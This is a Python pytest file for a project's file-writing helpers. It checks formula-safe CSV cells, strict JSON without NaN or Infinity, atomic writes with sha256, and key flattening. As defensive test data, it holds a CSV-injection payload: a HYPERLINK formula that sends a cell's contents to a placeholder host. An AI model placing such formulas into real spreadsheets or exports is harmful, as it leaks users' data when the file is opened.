"""analysis.files: what the project writes is safe to open (formula-safe CSV cells, strict JSON) and
written whole (atomic), with its sha256."""

from __future__ import annotations

import hashlib
import json

import pandas as pd
import pytest

from analysis import files
from analysis.files import json_dumps, neutralise_formula, neutralise_formulas, write_json


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_neutralise_formula_each_prefix(prefix):
    text = f'{prefix}HYPERLINK("http://x/?"&A1,"click")'
    assert neutralise_formula(text) == "'" + text
    frame = neutralise_formulas(pd.DataFrame({"value": [text, "Hà Nội"], "n": [-5, 3]}))
    assert frame["value"].tolist() == ["'" + text, "Hà Nội"]
    assert frame["n"].tolist() == [-5, 3]  # numbers stay numbers, negative ones too


def test_json_is_strict(tmp_path):
    value = {"a": float("nan"), "b": [float("inf"), -float("inf"), 1.5], "c": pd.NA}
    assert json.loads(json_dumps(value)) == {"a": None, "b": [None, None, 1.5], "c": None}
    path = write_json(tmp_path / "x.json", value)
    assert "NaN" not in path.read_text() and "Infinity" not in path.read_text()


def test_atomic_write_replaces_the_file_whole_and_its_sha256_is_the_content_hash(tmp_path):
    path = tmp_path / "sub" / "x.bin"
    files.atomic_write_bytes(path, b"first")
    files.atomic_write_bytes(path, b"second")
    assert path.read_bytes() == b"second" and [p.name for p in path.parent.iterdir()] == ["x.bin"]
    assert files.sha256_file(path) == files.sha256_bytes(b"second") == hashlib.sha256(b"second").hexdigest()


def test_flattened_names_nested_values_with_dots():
    assert dict(files.flattened({"profile": {"staff_total": 12, "figures": {"rank": 3}}, "year": 2022})) == {
        "profile.staff_total": 12, "profile.figures.rank": 3, "year": 2022}
